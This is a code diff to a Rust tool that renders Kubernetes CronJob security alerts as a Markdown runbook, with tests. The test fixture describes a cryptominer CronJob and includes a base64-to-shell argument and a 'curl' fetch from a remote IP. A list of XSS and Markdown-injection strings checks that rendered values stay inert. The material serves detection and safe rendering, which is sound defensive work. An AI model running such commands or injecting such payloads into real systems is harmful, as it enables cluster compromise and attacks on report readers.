@@ -144,23 +144,27 @@ const SECTIONS: [Section; 3] = [
     ("Suppressed", "suppressed", |all| all.iter().map(suppressed).collect()),
 ];
 
-/// Writes runbook.md.
-pub(super) fn runbook(runbook: &Value, out: &mut dyn Write) -> io::Result<()> {
+/// Writes runbook.md: what is said of the whole, and a page for each alert. Pages are made one at a time.
+pub(super) fn runbook(
+    about: &Value,
+    alerts: &mut dyn ExactSizeIterator<Item = Value>,
+    out: &mut dyn Write,
+) -> io::Result<()> {
     let mut print = |lines: &[String]| lines.iter().try_for_each(|line| writeln!(out, "{}", line.trim_end()));
-    print(&head(runbook))?;
-    for alert in list(runbook, "alerts") {
-        print(&[String::new(), heading(alert), String::new()])?;
-        print(&page(alert, &runbook["settings"]))?;
+    print(&head(about, alerts.len()))?;
+    for alert in alerts {
+        print(&[String::new(), heading(&alert), String::new()])?;
+        print(&page(&alert, &about["settings"]))?;
     }
     for (heading, key, lines) in SECTIONS {
         print(&[String::new(), format!("## {heading}"), String::new()])?;
-        let lines = lines(list(runbook, key));
+        let lines = lines(list(about, key));
         print(&if lines.is_empty() { vec!["None.".to_owned()] } else { lines })?;
     }
     Ok(())
 }
 
-fn head(runbook: &Value) -> Vec<String> {
+fn head(runbook: &Value, alerts: usize) -> Vec<String> {
     let counts = runbook["verdicts"].as_object().into_iter().flatten();
     let counts: Vec<String> =
         counts.map(|(verdict, count)| format!("{} {}", prose(&raw(count)), name(verdict))).collect();
@@ -170,7 +174,7 @@ fn head(runbook: &Value) -> Vec<String> {
     if !counts.is_empty() {
         lines.push(format!("Alerts by verdict: {}.", counts.join(", ")));
     }
-    if list(runbook, "alerts").is_empty() {
+    if alerts == 0 {
         lines.push(format!("There is no alert; {covered}."));
     } else {
         lines.push(format!("Coverage: {covered}."));
@@ -458,16 +462,17 @@ fn name(text: &str) -> String {
 
 /// Bare where nothing in it could be Markdown, HTML or a link, else code.
 fn prose(text: &str) -> String {
-    let text = text.trim_matches(' ');
+    let (whole, text) = (text, text.trim_matches(' '));
     let is_bare = |c: char| c.is_ascii_alphanumeric() || BARE.contains(c);
     // A dot before a letter may be a domain, which some renderers make a link of.
     let is_domain = text.as_bytes().windows(2).any(|pair| pair[0] == b'.' && pair[1].is_ascii_alphabetic());
     let is_link = is_domain || LINKS.iter().any(|link| text.to_ascii_lowercase().contains(link));
-    let is_list = !text.starts_with(|c: char| c.is_ascii_alphanumeric() || c == '(')
-        || text.trim_start_matches(|c: char| c.is_ascii_digit()).starts_with(['.', ')'])
-            && text.starts_with(|c: char| c.is_ascii_digit());
+    let numbered = text.trim_start_matches(|c: char| c.is_ascii_digit());
+    let is_numbered =
+        numbered.len() < text.len() && [".", ")"].contains(&numbered.split(' ').next().unwrap_or_default());
+    let is_list = is_numbered || !text.starts_with(|c: char| c.is_ascii_alphanumeric() || c == '(');
     let is_plain = text.len() <= LIMIT && text.chars().all(is_bare) && !is_link && !is_list;
-    if is_plain { text.to_owned() } else { code(text) }
+    if is_plain { text.to_owned() } else { code(whole) }
 }
 
 /// Text from the log in a code span.
@@ -510,5 +515,264 @@ fn visible(c: char) -> String {
         '\n' => "\\n".to_owned(),
         c if is_hidden(c) => c.escape_unicode().to_string(),
         c => c.to_string(),
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    const EXAMPLE: &str = r#"{
+ "schema_version": 1,
+ "settings": {"lookback": "30d", "context": "24h", "deep": false},
+ "verdicts": {"MALICIOUS-LIKELY": 1, "SUSPICIOUS": 0, "REVIEW": 1, "EXPECTED": 107},
+ "alerts": [{
+   "alert_id": "9f86d081884c7d65", "rule_id": "Kubernetes.CronJob.CreatedOrModified", "severity": "info",
+   "title": "[eve] created Kubernetes CronJob [kube-proxy-health] in [kube-system]",
+   "cluster": "prod-eu", "platform": "eks", "namespace": "kube-system", "username": "eve", "hits": 2,
+   "first_seen": "2026-11-24T03:12:44.120331Z", "last_seen": "2026-11-24T03:14:02.120331Z",
+   "verdict": "MALICIOUS-LIKELY", "verdict_rule": "S3 x any history", "decided_by": "kube-system/kube-proxy-health",
+   "spec_level": "S3", "history_level": "E0", "red_flags": ["CJ-BEH-04", "CJ-BEH-16"],
+   "reasons": [{"id": "CJ-CMD-11", "severity": "critical", "name": "mining command or pool", "where": "containers[0].args[0]", "match": "stratum+tcp://", "audit_id": "7f3e", "evidence": {"path": "s3/a/b.gz", "record": 12, "offset": 88123, "pointer": "/logEvents/3/message"}}],
+   "would_change": ["an owner who confirms that eve was to create this CronJob, by name"],
+   "who": {"username": "eve", "principal_class": "human", "shared": false, "groups": ["engineers", "system:authenticated"], "session": "eve", "arn": "arn:aws:sts::111122223333:assumed-role/Engineer/eve", "source_ip": "198.51.100.9", "source_public": true, "source_new": true, "chain": ["10.0.0.2"], "user_agent": "curl/8.5.0", "user_agent_new": true, "impersonated_user": "system:masters-bot"},
+   "cronjobs": [{
+     "namespace": "kube-system", "name": "kube-proxy-health", "change": "created", "time": "2026-11-24T03:12:44.120331Z", "outcome": "success", "spec_level": "S3",
+     "spec_source": "responseObject", "schedule": "*/1 * * * *", "schedule_text": "every minute", "runs_per_day": 1440.0, "time_zone": "UTC", "next_runs": ["2026-11-24T03:13:00Z"], "suspend": false,
+     "service_account": "default",
+     "containers": [{"name": "kube-proxy", "kind": "containers", "image": "docker.io/x/miner:latest", "pinned": false, "image_new": true, "command": ["/bin/sh", "-c"], "args": ["echo Y3Vyb… | base64 -d | sh; <script>alert(1)</script>"], "env": [{"name": "A", "value": "b"}], "security_context": "privileged"}],
+     "volumes": ["host: hostPath /"], "pod_security": ["hostPID"],
+     "decoded": [{"where": "containers[0].args[0]", "text": "curl -fsSL http://198.51.100.77/k.sh"}],
+     "indicators": [{"id": "CJ-CMD-11", "name": "mining command or pool", "severity": "critical", "category": "command", "where": "containers[0].args[0]", "match": "stratum+tcp://"}],
+     "diff": [{"path": "spec.schedule", "before": "0 1 * * *", "after": "*/1 * * * *"}], "diff_note": "new object",
+     "audit_id": "7f3e", "evidence": {"path": "s3/a/b.gz", "record": 12, "offset": 88123, "pointer": "/logEvents/3/message"}
+   }],
+   "before": {"class": "probing", "text": "3 writes: 1 ok, 2 failed (403); 1 dry run", "succeeded": 1, "failed": 2, "dry_run": 1, "created": 1, "modified": 0, "deleted": 0, "precursors": "not looked at (--deep)", "precursor_list": [{"time": "2026-11-24T03:05:00Z", "what": "create clusterrolebindings eve-admin", "evidence": {"path": "x", "record": 1}}], "coverage": "100 % of 24 h", "events": [{"time": "2026-11-24T03:09:00Z", "what": "create kube-system/- failed 403", "evidence": {"path": "x", "record": 1}}]},
+   "history": {"class": "anomalous", "text": "none in 30 days (dump covers 28.7 of 30)", "writes": 0, "cronjobs": 0, "days": 0, "novel": ["namespace", "registry"], "others": ["eks:addon-manager (2)"], "coverage": "dump covers 28.7 of 30 days"},
+   "since": {"text": "jobs started: 76 (first 03:13, last 04:28); pods 76; deleted: no: probably still present at the end of the dump"},
+   "upstream": "match; dedup merged 2 events; suppressed by upstream: no",
+   "next": ["kubectl -n kube-system get cronjob kube-proxy-health -o yaml", "delete the CronJob before its pods"]
+ }],
+ "users": [{"username": "eve", "cluster": "prod-eu", "worst": "MALICIOUS-LIKELY", "alerts": 1, "hits": 2, "namespaces": ["kube-system"]}],
+ "controller_only": [{"cluster": "edge", "namespace": "default", "name": "ghost", "jobs": 3, "first_seen": "2026-11-20T00:00:00Z", "last_seen": "2026-11-20T02:00:00Z", "text": "Jobs of a CronJob whose creation is not in the dump", "evidence": {"path": "x", "record": 1}}]
+}"#;
+
+    /// As read by eye.
+    const GOLDEN: &str = r"# Runbook
+
+Alerts by verdict: 1 MALICIOUS-LIKELY, 0 SUSPICIOUS, 1 REVIEW, 107 EXPECTED.
+Coverage: what the dump covers is not known.
+
+## MALICIOUS-LIKELY  kube-system/kube-proxy-health  CronJob created  2026-11-24 03:12:44Z  cluster prod-eu (EKS)
+
+- **why** verdict rule: S3 x any history; decided by `kube-system/kube-proxy-health`; spec S3; history E0; red flags CJ-BEH-04, CJ-BEH-16
+  - CJ-CMD-11  critical  mining command or pool  in `containers[0].args[0]`  `stratum+tcp://` -> `s3/a/b.gz:12#88123 /logEvents/3/message auditID 7f3e`
+- **who** `eve`; class human; groups `engineers`, `system:authenticated`; impersonating `system:masters-bot`; session `eve`; arn `arn:aws:sts::111122223333:assumed-role/Engineer/eve`; from `198.51.100.9` (public, new); chain `10.0.0.2`; agent `curl/8.5.0` (new)
+- **what** `kube-system`/`kube-proxy-health`; created; 2026-11-24 03:12:44Z; outcome success; spec S3; read from responseObject
+  - schedule `*/1 * * * *` (every minute, 1440 runs a day, time zone UTC); next runs 2026-11-24 03:13:00Z
+  - service account `default`; pod: `hostPID`; volumes `host: hostPath /`
+  - container `kube-proxy`: image `docker.io/x/miner:latest` (no digest, first seen); `privileged`
+  - command `/bin/sh` `-c`
+  - args `echo Y3Vyb… | base64 -d | sh; <script>alert(1)</script>`
+  - env `A=b`
+  - decoded from `containers[0].args[0]`: `curl -fsSL http://198.51.100.77/k.sh`
+  - diff: new object
+  - changed `spec.schedule`: `0 1 * * *` -> `*/1 * * * *`
+  - matched CJ-CMD-11
+  - request -> `s3/a/b.gz:12#88123 /logEvents/3/message auditID 7f3e`
+- **24 h** 3 writes: 1 ok, 2 failed (403); 1 dry run; probing; coverage 100 % of 24 h; precursors: not looked at (--deep)
+  - precursor: 2026-11-24 03:05:00Z  `create clusterrolebindings eve-admin` -> `x:1`
+  - request: 2026-11-24 03:09:00Z  `create kube-system/- failed 403` -> `x:1`
+- **30 d** none in 30 days (dump covers 28.7 of 30); anomalous; new here: namespace, registry; coverage: dump covers 28.7 of 30 days; CronJobs in this namespace are also written by `eks:addon-manager (2)`
+- **since** jobs started: 76 (first 03:13, last 04:28); pods 76; deleted: no: probably still present at the end of the dump
+- **also** upstream: match; dedup merged 2 events; suppressed by upstream: no; alert 9f86d081884c7d65; rule `Kubernetes.CronJob.CreatedOrModified`; hits 2; title `[eve] created Kubernetes CronJob [kube-proxy-health] in [kube-system]`
+- **next**
+  - `kubectl -n kube-system get cronjob kube-proxy-health -o yaml`
+  - delete the CronJob before its pods
+- **would change it**
+  - an owner who confirms that eve was to create this CronJob, by name
+
+## Who
+
+| #   | user  | cluster   | worst            | alerts | hits | namespaces    |
+| --- | ----- | --------- | ---------------- | ------ | ---- | ------------- |
+| 1   | `eve` | `prod-eu` | MALICIOUS-LIKELY | 1      | 2    | `kube-system` |
+
+## CronJobs seen only through their controllers
+
+- CronJob `default`/`ghost`: cluster `edge`; Jobs 3; first 2026-11-20 00:00:00Z; last 2026-11-20 02:00:00Z; Jobs of a CronJob whose creation is not in the dump -> `x:1`
+
+## Suppressed
+
+None.
+";
+
+    const HOSTILE: [&str; 18] = [
+        "`",
+        "``` x ``",
+        "`` ` ``\\",
+        "](javascript:x)",
+        "[a](https://x.example)",
+        "![a](https://x.example/a.png)",
+        "<script>alert(1)</script>",
+        "</code></td><img src=x onerror=alert(1)>",
+        "|",
+        "\\|",
+        "a\\\\| `b` | <b>c</b>",
+        "\u{202E}gnp",
+        "a\nb\r\n# c",
+        "\n```\n<b>\n",
+        "- x",
+        "1. x",
+        "\u{1b}[2J\u{9b}31m\u{7}",
+        "*a* __b__ ~~c~~ &lt; $x$ www.x.example @a",
+    ];
+
+    fn written(value: &Value) -> String {
+        let mut out = Vec::new();
+        let alerts: Vec<Value> = list(value, "alerts").to_vec();
+        runbook(value, &mut alerts.into_iter(), &mut out).unwrap();
+        String::from_utf8(out).unwrap()
+    }
+
+    /// Every string of the example replaced.
+    fn filled(value: &Value, with: &str) -> Value {
+        match value {
+            Value::String(_) => with.into(),
+            Value::Array(all) => all.iter().map(|item| filled(item, with)).collect(),
+            Value::Object(members) => {
+                Value::Object(members.iter().map(|(key, item)| (key.clone(), filled(item, with))).collect())
+            }
+            other => other.clone(),
+        }
+    }
+
+    /// A line without its code spans, found as CommonMark finds them, and what these hold.
+    fn parted(line: &str) -> (String, Vec<String>) {
+        let (mut bare, mut spans, mut rest) = (String::new(), Vec::new(), line);
+        while let Some(at) = rest.find('`') {
+            bare.push_str(&rest[..at]);
+            let opened = rest[at..].trim_start_matches('`');
+            let fence = rest.len() - at - opened.len();
+            let mut runs = opened.match_indices('`').map(|(at, _)| at).filter(|at| !opened[..*at].ends_with('`'));
+            let end = runs.find(|at| opened[*at..].len() - opened[*at..].trim_start_matches('`').len() == fence);
+            let end = end.unwrap_or_else(|| panic!("no end: {line}"));
+            spans.push(opened[..end].to_owned());
+            rest = &opened[end + fence..];
+        }
+        (bare + rest, spans)
+    }
+
+    #[test]
+    fn the_example_reads_as_it_should() {
+        let value: Value = serde_json::from_str(EXAMPLE).unwrap();
+        assert_eq!(written(&value), GOLDEN);
+    }
+
+    #[test]
+    fn hostile_values_stay_text_wherever_they_stand() {
+        let example: Value = serde_json::from_str(EXAMPLE).unwrap();
+        let shape = written(&example).lines().count();
+        for hostile in HOSTILE {
+            let page = written(&filled(&example, hostile));
+            // No line is added by a value. (Of two settings, labels; of a verdict, a meaning: none here.)
+            assert_eq!(page.lines().count(), shape, "{page}");
+            assert!(!page.chars().any(|c| c != '\n' && visible(c) != c.to_string()), "{page:?}");
+            for line in page.lines() {
+                let (bare, spans) = parted(line);
+                assert!(!bare.contains(['<', '[', ']', '_', '~', '&', '$', '@', '!']), "{line}");
+                assert!(!bare.replace("->", "").contains('>') && !bare.replace("**", "").contains('*'), "{line}");
+                assert!(!bare.contains("www.") && !bare.contains("//"), "{line}");
+                let cells = line.strip_prefix('|').map_or(0, |row| row.replace("\\|", "").matches('|').count());
+                assert!(cells == 0 || cells == 7 && !line.contains("\\\\|"), "{line}");
+                assert!(cells > 0 || spans.iter().all(|span| span.len() < 2 * LIMIT), "{line}");
+                let item = line.trim_start().trim_start_matches("- ");
+                assert!(!line.trim_start().starts_with("- - ") && !item.starts_with("1. "), "{line}");
+            }
+        }
+    }
+
+    #[test]
+    fn code_spans_cannot_be_closed_from_inside() {
+        let cases = [
+            ("a", "`a`"),
+            ("", "-"),
+            ("a`b", "``a`b``"),
+            ("`", "`` ` ``"),
+            ("a```", "```` a``` ````"),
+            (" a ", "`  a  `"),
+            ("a\nb", "`a\\nb`"),
+            ("\u{202E}\u{200B}\u{1b}", "`\\u{202e}\\u{200b}\\u{1b}`"),
+        ];
+        for (text, shown) in cases {
+            assert_eq!(code(text), shown);
+        }
+    }
+
+    #[test]
+    fn only_harmless_words_stand_bare() {
+        for text in ["3 writes: 1 ok, 2 failed (403)", "S? x E0 with CJ-BEH-04", "28.7 of 30 days", "(no diff)"] {
+            assert_eq!(prose(text), text);
+        }
+        for text in HOSTILE.into_iter().chain(["x.example", "http://1", "WWW.1", "+ x", "é", "2) x", "  "]) {
+            assert!(prose(text).starts_with('`'), "{text}");
+        }
+        assert_eq!((name("two words").as_str(), name("one").as_str()), ("`two words`", "one"));
+    }
+
+    #[test]
+    fn a_pipe_in_a_cell_stands_behind_one_backslash() {
+        assert_eq!(cell("`a|b`"), "`a\\|b`");
+        assert_eq!(cell("`a\\|b`"), "`a\\u{5c}\\|b`");
+        assert_eq!(cell("`a\\\\||`"), "`a\\\\u{5c}\\|\\|`");
+    }
+
+    #[test]
+    fn long_values_are_cut_between_characters() {
+        assert_eq!(code(&"é".repeat(300)), format!("`{}`", "é".repeat(300)));
+        assert_eq!(code(&"é".repeat(301)), format!("`{}…`", "é".repeat(300)));
+        assert_eq!(code(&format!("{}\u{202E}", "a".repeat(299))), format!("`{}…`", "a".repeat(299)));
+        let many: Value = serde_json::json!({"groups": vec!["g"; LISTED + 2]});
+        assert!(told(&many, &WHO).concat().ends_with("`g`, and 2 more in runbook.json"));
+    }
+
+    #[test]
+    fn without_alerts_one_sentence_says_so() {
+        let page = written(&serde_json::json!({"alerts": [], "coverage_note": "the dump covers 3 days"}));
+        assert!(
+            page.starts_with("# Runbook\n\nThere is no alert; the dump covers 3 days.\n\n## Who\n\nNone.\n"),
+            "{page}"
+        );
+        assert!(written(&Value::Null).contains("There is no alert; what the dump covers is not known.\n"));
+    }
+
+    #[test]
+    fn missing_members_are_left_out() {
+        let rows = serde_json::json!([{}, null, 7]);
+        let page = written(&serde_json::json!({
+            "alerts": [{}, {"cronjobs": rows, "reasons": rows, "next": rows, "before": {"events": rows}}],
+            "users": rows, "controller_only": rows, "suppressed": rows
+        }));
+        assert_eq!(page.matches("\n## ").count(), 5, "{page}");
+        assert!(page.contains("| 1   | -    | -       | -     | -      | -    | -          |"), "{page}");
+    }
+
+    #[test]
+    fn what_was_suppressed_is_counted_by_user() {
+        let row = serde_json::json!({"namespace": "ops|x", "username": "a`b", "count": 12, "reason": "excluded by *"});
+        assert_eq!(suppressed(&row), "- 12 by ``a`b`` in `ops|x`: `excluded by *`");
+    }
+
+    #[test]
+    fn expected_says_what_it_rests_on() {
+        let said = |level: &str| {
+            let alert = serde_json::json!({"verdict": "EXPECTED", "verdict_rule": "x", "spec_level": level});
+            why(&alert).remove(0).0
+        };
+        assert!(
+            said("S0")
+                .starts_with("verdict rule: x; consistent with established activity; nothing in the spec matched")
+        );
+        assert!(!said("S1").contains("nothing in the spec"));
     }
 }
